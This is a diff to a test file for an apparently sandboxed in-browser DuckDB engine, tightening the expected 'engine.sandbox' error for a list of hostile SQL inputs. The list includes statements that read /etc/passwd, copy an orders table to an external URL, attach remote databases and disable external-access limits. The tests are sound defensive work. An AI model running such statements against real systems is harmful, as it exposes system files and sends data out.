@@ -146,18 +146,18 @@ describe('hostile text', () => {
 
 /** Statements and the error code they must end in; null: may succeed, but must not reach out. */
 const HOSTILE_SQL: [string, RegExp | null][] = [
-	["SELECT * FROM read_csv('https://example.com/steal.csv')", /engine\./],
-	["SELECT * FROM read_csv('/etc/passwd')", /engine\./],
-	["SELECT * FROM read_text('file:///etc/hostname')", /engine\./],
-	["COPY (SELECT * FROM orders) TO 'http://example.com/x.csv'", /engine\./],
-	["COPY (SELECT * FROM orders) TO '/huitou/../tmp/out.csv'", /engine\./],
-	["ATTACH 'https://example.com/db.duckdb' AS remote", /engine\./],
+	["SELECT * FROM read_csv('https://example.com/steal.csv')", /^engine\.sandbox$/],
+	["SELECT * FROM read_csv('/etc/passwd')", /^engine\.sandbox$/],
+	["SELECT * FROM read_text('file:///etc/hostname')", /^engine\.sandbox$/],
+	["COPY (SELECT * FROM orders) TO 'http://example.com/x.csv'", /^engine\.sandbox$/],
+	["COPY (SELECT * FROM orders) TO '/huitou/../tmp/out.csv'", /^engine\.sandbox$/],
+	["ATTACH 'https://example.com/db.duckdb' AS remote", /^engine\.sandbox$/],
 	// duckdb-wasm accepts INSTALL as a no-op; LOAD is what would fetch, and it is refused.
 	['INSTALL httpfs', null],
-	['LOAD httpfs', /engine\./],
-	['SET enable_external_access=true', /engine\./],
-	['SET autoload_known_extensions=true', /engine\./],
-	["SET allowed_directories=['/']", /engine\./]
+	['LOAD httpfs', /^engine\.sandbox$/],
+	['SET enable_external_access=true', /^engine\.sandbox$/],
+	['SET autoload_known_extensions=true', /^engine\.sandbox$/],
+	["SET allowed_directories=['/']", /^engine\.sandbox$/]
 ];
 
 describe('privacy: nothing leaves the page', () => {
